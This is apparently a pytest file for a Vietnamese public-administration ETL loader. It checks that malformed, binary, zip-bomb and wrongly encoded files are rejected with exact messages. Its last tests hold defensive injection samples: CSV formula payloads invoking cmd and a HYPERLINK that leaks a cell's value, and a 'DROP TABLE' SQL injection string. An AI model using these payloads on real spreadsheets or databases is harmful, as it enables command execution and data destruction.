"""The malformed-file corpus (tests/data/bad/, made by make_corpus.py): each file gets its exact
Vietnamese message, and loading it leaves the warehouse as it was.

- A file that cannot be read at all: status "failed", the exact message, and the warehouse file
  is byte-for-byte the same (a load never writes the live file unless something loads).
- A readable file whose rows are all wrong: nothing reaches the data tables (dossiers,
  evaluations, evaluation_criteria, commitments, surveys, inspections, staff_ratings,
  commendations are unchanged); the batch and its rejects, with
  the exact reasons, are recorded so they can be downloaded.
The preview (what the Dữ liệu page shows before committing) gives the same message as the load.
"""
from __future__ import annotations

import csv
import hashlib
import io
import shutil
from datetime import date
from pathlib import Path

import duckdb
import pytest

from etl import history
from etl.load import load_files, preview_files
from etl.warehouse import file_version
from metrics import tables
from metrics.export import to_csv_bytes
from metrics.filters import Filters

BAD = Path(__file__).resolve().parent / "data" / "bad"

NOT_A_TABLE = ("Cần một dòng tiêu đề cột của một trong bảy loại tệp: hồ sơ TTHC (Mã hồ sơ, Đơn vị, Ngày tiếp nhận, "
               "Ngày hẹn trả, …); đánh giá, xếp loại (Đơn vị, Kỳ đánh giá, Tổng điểm hoặc Xếp loại); cam kết (Đơn vị, "
               "Năm, Tổng số CBCCVC và các cột ký cam kết); khảo sát sự hài lòng (Đơn vị, Tháng, Tổng số phiếu, "
               "Rất hài lòng, Hài lòng, Bình thường, Không hài lòng); kiểm tra đột xuất (Ngày kiểm tra, Đơn vị, "
               "Số CBCCVC được kiểm tra và các cột số vi phạm như Đi muộn, về sớm, vắng mặt); xếp loại CBCCVC cuối "
               "năm (Đơn vị, Năm, Tổng số CBCCVC, Hoàn thành xuất sắc nhiệm vụ, Hoàn thành tốt nhiệm vụ, Hoàn thành "
               "nhiệm vụ, Không hoàn thành nhiệm vụ); khen thưởng (Số quyết định, Ngày quyết định, Cấp khen thưởng, "
               "Hình thức khen thưởng, Tên tập thể, cá nhân, Đơn vị).")
BINARY = "không phải CSV hay Excel (.xlsx): nội dung là dữ liệu nhị phân."
BROKEN_XLSX = "là Excel (.xlsx) bị hỏng hoặc không đầy đủ: không mở được"

# file -> the exact message (file name included)
FAILED = {
    "01_rong.csv": "Tệp «01_rong.csv» rỗng (0 byte): không có dữ liệu để nạp.",
    "02_chi_o_trong.csv": "Tệp «02_chi_o_trong.csv» không có dữ liệu (chỉ có ô trống).",
    "03_chi_tieu_de.csv": "Tệp «03_chi_tieu_de.csv» có dòng tiêu đề (hồ sơ TTHC) nhưng không có dòng dữ liệu nào.",
    "04_chi_tieu_de.xlsx": "Tệp «04_chi_tieu_de.xlsx» có dòng tiêu đề (hồ sơ TTHC) nhưng không có dòng dữ liệu nào.",
    "05_sai_loai_danh_sach_can_bo.csv": "Tệp «05_sai_loai_danh_sach_can_bo.csv»: không tìm thấy dòng tiêu đề cột "
                                        f"nhận ra được trong 2 dòng đầu. {NOT_A_TABLE}",
    "06_nhi_phan.csv": f"Tệp «06_nhi_phan.csv» {BINARY}",
    "07_anh_png.xlsx": f"Tệp «07_anh_png.xlsx» {BINARY}",
    "08_xlsx_cat_do.xlsx": f"Tệp «08_xlsx_cat_do.xlsx» {BROKEN_XLSX}.",
    "09_zip_khong_phai_xlsx.xlsx": "Tệp «09_zip_khong_phai_xlsx.xlsx» là tệp nén nhưng không phải bảng tính Excel (.xlsx).",
    "10_excel_cu.xls": "Tệp «10_excel_cu.xls» là Excel 97-2003 (.xls): hãy mở bằng Excel và lưu lại dưới dạng .xlsx "
                       "hoặc CSV UTF-8.",
    "11_zip_bomb.xlsx": "Tệp «11_zip_bomb.xlsx» bị từ chối: khi giải nén sẽ chiếm 64 MB (gấp 1028 lần kích thước tệp), "
                        "có dấu hiệu tệp độc hại (zip bomb).",
    "12_xlsx_khai_4gb.xlsx": "Tệp «12_xlsx_khai_4gb.xlsx» bị từ chối: khi giải nén sẽ chiếm 4096 MB (gấp 116080197 lần "
                             "kích thước tệp), có dấu hiệu tệp độc hại (zip bomb).",
    "13_ma_hoa_la.csv": "Tệp «13_ma_hoa_la.csv» không phải CSV hay Excel (.xlsx): không đọc được nội dung dưới dạng "
                        "văn bản (cần CSV UTF-8).",
    "14_loi_ma_hoa_hai_lan.csv": "Tệp «14_loi_ma_hoa_hai_lan.csv» có chữ tiếng Việt bị lỗi mã hóa (đã bị chuyển mã "
                                 "hai lần): hãy xuất lại dưới dạng CSV UTF-8.",
    "19_100000_cot.csv": "Tệp «19_100000_cot.csv» có hơn 200 cột (tối đa 200): không phải tệp xuất hồ sơ hay bảng "
                         "đánh giá.",
    "21_html_dat_ten_xls.xls": "Tệp «21_html_dat_ten_xls.xls» là trang web (HTML/XML), không phải CSV hay Excel (.xlsx): "
                               "hãy mở tệp bằng Excel rồi lưu lại dưới dạng .xlsx hoặc CSV UTF-8.",
    "22_pdf.csv": f"Tệp «22_pdf.csv» {BINARY}",
    "23_chi_dong_tong_cong.csv": "Tệp «23_chi_dong_tong_cong.csv» có dòng tiêu đề (hồ sơ TTHC) nhưng không có dòng "
                                 "dữ liệu nào.",
    "26_xlsx_qua_nhieu_cot.xlsx": "Tệp «26_xlsx_qua_nhieu_cot.xlsx» có 16000 cột (tối đa 200): không phải tệp xuất hồ "
                                  "sơ hay bảng đánh giá.",
    "28_thieu_cot_hen_tra.csv": "Tệp «28_thieu_cot_hen_tra.csv»: không tìm thấy dòng tiêu đề cột nhận ra được trong "
                                f"2 dòng đầu. {NOT_A_TABLE}",
    "29_zip_bomb_khai_gian.xlsx": f"Tệp «29_zip_bomb_khai_gian.xlsx» {BROKEN_XLSX} (XmlError).",
    "32_windows_1252.csv": "Tệp «32_windows_1252.csv»: chữ tiếng Việt đã bị thay bằng dấu «?» (tệp được lưu bằng bảng "
                           "mã không có tiếng Việt, ví dụ Windows-1252): hãy lưu lại dưới dạng CSV UTF-8.",
    "33_khao_sat_chi_tieu_de.xlsx": "Tệp «33_khao_sat_chi_tieu_de.xlsx» có dòng tiêu đề (khảo sát sự hài lòng) nhưng "
                                    "không có dòng dữ liệu nào.",
    "34_khen_thuong_thieu_so_quyet_dinh.csv": "Tệp «34_khen_thuong_thieu_so_quyet_dinh.csv»: không tìm thấy dòng tiêu "
                                              f"đề cột nhận ra được trong 2 dòng đầu. {NOT_A_TABLE}",
}

DATE_HELP = "không phải ngày hợp lệ (cần ngày/tháng/năm, ví dụ 02/05/2023)"
MONTH_HELP = "không phải tháng hợp lệ (cần ví dụ: 05/2022 hoặc Tháng 5/2022)"
# file -> (rows read, the exact reasons of the rejects, in row order)
ALL_ROWS_REJECTED = {
    "16_ngay_thang_truoc.csv": (3, [
        (2, f"Ngày hẹn trả «05/17/2023» {DATE_HELP}"), (2, f"Ngày tiếp nhận «05/14/2023 08:00» {DATE_HELP}"),
        (3, f"Ngày hẹn trả «05/18/2023» {DATE_HELP}"), (3, f"Ngày tiếp nhận «05/15/2023 08:00» {DATE_HELP}"),
        (4, f"Ngày hẹn trả «05/19/2023» {DATE_HELP}"), (4, f"Ngày tiếp nhận «05/16/2023 08:00» {DATE_HELP}"),
    ]),
    "17_diem_am.csv": (2, [(2, "Điểm -5 nằm ngoài thang 0–100"), (3, "Điểm -12,5 nằm ngoài thang 0–100")]),
    "18_ky_nhieu_hon_bien_che.csv": (1, [(2, "Số đã ký (25) lớn hơn tổng số CBCCVC (20)")]),
    "24_don_vi_la.csv": (2, [
        (2, "Đơn vị «Xã Hòa Bình» không có trong danh mục đơn vị (data/reference/units.csv)"),
        (3, "Đơn vị «Xã Hòa Bình» không có trong danh mục đơn vị (data/reference/units.csv)"),
    ]),
    "25_hen_tra_truoc_tiep_nhan.csv": (1, [(2, "Ngày hẹn trả 05/05/2023 trước ngày tiếp nhận 10/05/2023")]),
    "27_nam_hai_chu_so.csv": (1, [(2, f"Ngày hẹn trả «05/05/23» {DATE_HELP}"),
                                  (2, f"Ngày tiếp nhận «02/05/23 08:00» {DATE_HELP}")]),
    # the sheets of issue 8 (surveys, inspections, staff ratings, commendations)
    "35_khao_sat_vuot_tong_so_phieu.csv": (2, [(5, "Tổng bốn mức (11) lớn hơn tổng số phiếu (10)"),
                                               (6, "Tổng bốn mức (21) lớn hơn tổng số phiếu (20)")]),
    "36_khao_sat_thang_13.csv": (2, [(2, f"Tháng «13/2022» {MONTH_HELP}"), (3, f"Tháng «Tháng 0/2022» {MONTH_HELP}")]),
    "37_xep_loai_vuot_bien_che.xlsx": (2, [(4, "Tổng số được xếp loại (21) lớn hơn tổng số CBCCVC (20)"),
                                           (5, "Tổng số được xếp loại (6) lớn hơn tổng số CBCCVC (5)")]),
    # within a row, by heading: "Giao tiếp, ứng xử" sorts before "Đi muộn, …" (Đ is not an ASCII letter)
    "38_kiem_tra_vuot_so_duoc_kiem_tra.csv": (2, [(2, "Số vi phạm (7) lớn hơn số CBCCVC được kiểm tra (5)"),
                                                  (2, "Số vi phạm (6) lớn hơn số CBCCVC được kiểm tra (5)"),
                                                  (3, "Số vi phạm (5) lớn hơn số CBCCVC được kiểm tra (4)")]),
    "39_kiem_tra_don_vi_la_o_trong.csv": (3, [
        (2, "Đơn vị «Xã Hòa Bình» không có trong danh mục đơn vị (data/reference/units.csv)"),
        (3, "Thiếu số CBCCVC được kiểm tra"),
        (4, f"Ngày kiểm tra «30/02/2022» {DATE_HELP}")]),
    "40_khen_thuong_o_trong.csv": (3, [(2, "Thiếu số quyết định"), (3, "Thiếu ngày quyết định"),
                                       (4, "Thiếu tên tập thể, cá nhân được khen thưởng")]),
    "41_khao_sat_o_trong.csv": (4, [
        (2, "Thiếu tên đơn vị"), (3, "Thiếu tháng khảo sát"),
        (4, "Thiếu số phiếu của cả bốn mức (Rất hài lòng, Hài lòng, Bình thường, Không hài lòng)"),
        (5, "Rất hài lòng «-3» phải là số nguyên không âm")]),
}

FACT_TABLES = ("dossiers", "evaluations", "evaluation_criteria", "commitments", "surveys", "inspections",
               "staff_ratings", "commendations")
GOOD = ("Mã hồ sơ,Tên thủ tục,Lĩnh vực,Đơn vị,Hình thức nộp,Ngày tiếp nhận,Ngày hẹn trả,Ngày trả kết quả\n"
        "G-1,Đăng ký khai sinh,Hộ tịch,Xã Phước Hậu,Trực tiếp,02/04/2023 08:00,05/04/2023,04/04/2023 10:00\n"
        "G-2,Đăng ký kết hôn,Hộ tịch,Thị trấn Phước Dân,Trực tuyến,03/04/2023 08:00,06/04/2023,\n")


def test_the_corpus_has_at_least_twenty_malformed_files():
    files = {p.name for p in BAD.iterdir() if p.name[:2].isdigit()}
    assert len(FAILED) + len(ALL_ROWS_REJECTED) >= 20
    assert set(FAILED) | set(ALL_ROWS_REJECTED) <= files


@pytest.fixture(scope="module")
def base_db(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("bad_base")
    (d / "tot.csv").write_text(GOOD, encoding="utf-8")
    db = d / "warehouse.duckdb"
    [r] = load_files([d / "tot.csv"], db=db, user="test")
    assert (r.status, r.rows_to_load) == ("loaded", 2)
    return db


@pytest.fixture
def db(base_db, tmp_path) -> Path:
    p = tmp_path / "warehouse.duckdb"
    shutil.copyfile(base_db, p)
    return p


def sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def read(db: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(db), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def facts(db: Path) -> dict[str, list[tuple]]:
    return {t: read(db, f"SELECT * FROM {t} ORDER BY ALL") for t in FACT_TABLES}


@pytest.mark.parametrize("name", sorted(FAILED))
def test_an_unreadable_file_gets_its_message_and_changes_nothing(db, name):
    expected = FAILED[name]
    [preview] = preview_files([BAD / name], db)
    assert (preview.status, preview.message) == ("failed", expected)
    before, version = sha(db), file_version(db)
    [r] = load_files([BAD / name], db=db, user="test")
    assert (r.status, r.message) == ("failed", expected)
    assert sha(db) == before and file_version(db) == version
    assert [p.name for p in db.parent.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("name", sorted(ALL_ROWS_REJECTED))
def test_a_file_of_bad_rows_loads_nothing_and_keeps_the_reasons(db, name):
    rows_read, reasons = ALL_ROWS_REJECTED[name]
    [preview] = preview_files([BAD / name], db)
    assert (preview.rows_read, preview.rows_to_load, preview.rows_rejected) == (rows_read, 0, rows_read)
    assert [(x.row_number, x.reason) for x in preview.rejects] == reasons
    before = facts(db)
    [r] = load_files([BAD / name], db=db, user="test")
    assert (r.status, r.rows_to_load, r.rows_rejected) == ("loaded", 0, rows_read)
    assert facts(db) == before
    assert read(db, "SELECT row_number, reason FROM load_rejects WHERE batch_id = ? ORDER BY row_number, column_name",
                [r.batch_id]) == reasons


def test_a_bad_file_among_good_ones_does_not_stop_them(db, tmp_path):
    good = tmp_path / "thang5.csv"
    good.write_text(GOOD.replace("G-", "M-").replace("/04/", "/05/"), encoding="utf-8")
    reports = load_files([BAD / "06_nhi_phan.csv", good, BAD / "08_xlsx_cat_do.xlsx"], db=db, user="test")
    assert [r.status for r in reports] == ["failed", "loaded", "failed"]
    assert read(db, "SELECT count(*) FROM dossiers") == [(4,)]


# -- encodings recognised -----------------------------------------------------------------------

@pytest.mark.parametrize("name", ["15_utf16.csv", "31_windows_1258.csv"])
def test_utf16_and_windows_1258_are_read(db, name):
    [r] = load_files([BAD / name], db=db, user="test")
    assert (r.status, r.kind, r.rows_read, r.rows_to_load, r.rows_rejected) == ("loaded", "dossiers", 3, 3, 0)
    assert read(db, "SELECT dossier_id, unit_id, procedure_name FROM dossiers WHERE dossier_id LIKE 'HS-%' ORDER BY 1") == [
        (f"HS-00{i}", "xa-phuoc-hau", "Đăng ký khai sinh") for i in (1, 2, 3)]


# -- formula payloads and SQL in cells ----------------------------------------------------------

def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_formula_payloads_are_kept_verbatim_and_neutralised_in_every_extract(db):
    [r] = load_files([BAD / "20_cong_thuc_trong_ten.csv"], db=db, user="test")
    assert (r.rows_to_load, r.rows_rejected) == (1, 2)
    # Stored as typed: the warehouse keeps the text, not a computed value.
    assert read(db, "SELECT procedure_name FROM dossiers WHERE dossier_id = 'HS-002'") == [("=cmd|' /C calc'!A0",)]
    con = duckdb.connect(str(db), read_only=True)
    try:
        rejects = history.batch_rejects(con, r.batch_id)
        late = tables.build("late_dossiers", con, Filters(date(2023, 5, 1), date(2023, 5, 31)))
    finally:
        con.close()
    # The rejects CSV (Dữ liệu page): the raw values start with ' so Excel shows them as text.
    cells = _csv_cells(to_csv_bytes(rejects))
    raw = [row[cells[0].index("Giá trị trong tệp")] for row in cells[1:]]
    assert raw == ["'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Bấm vào\")", "'@SUM(1+1)*cmd|' /C calc'!A0"]
    # The late-dossier extract (a page's CSV and python -m metrics): the procedure name too.
    cells = _csv_cells(to_csv_bytes(late))
    procs = [row[cells[0].index("Thủ tục")] for row in cells[1:] if row and row[0] == "HS-002"]
    assert procs == ["'=cmd|' /C calc'!A0"]
    assert not any(c.startswith(("=", "+", "-", "@")) for row in cells[1:] for c in row if c and not c[0].isdigit()
                   and not c.startswith("-") )


def test_sql_in_cells_is_data(db):
    [r] = load_files([BAD / "30_sql_trong_o.csv"], db=db, user="test")
    assert (r.status, r.rows_to_load, r.rows_rejected) == ("loaded", 1, 1)
    sql = "x'); DROP TABLE dossiers; --"
    assert read(db, "SELECT dossier_id, procedure_name, field FROM dossiers WHERE dossier_id = ?", [sql]) == [
        (sql, sql, sql)]
    assert read(db, "SELECT count(*) FROM dossiers") == [(3,)]
    assert [x.reason for x in r.rejects] == [
        f"Phiếu xin lỗi «{sql}» không rõ (cần: Có/Không, x, ✓, 1/0 hoặc ngày)",
        f"Đơn vị «{sql}» không có trong danh mục đơn vị (data/reference/units.csv)"]
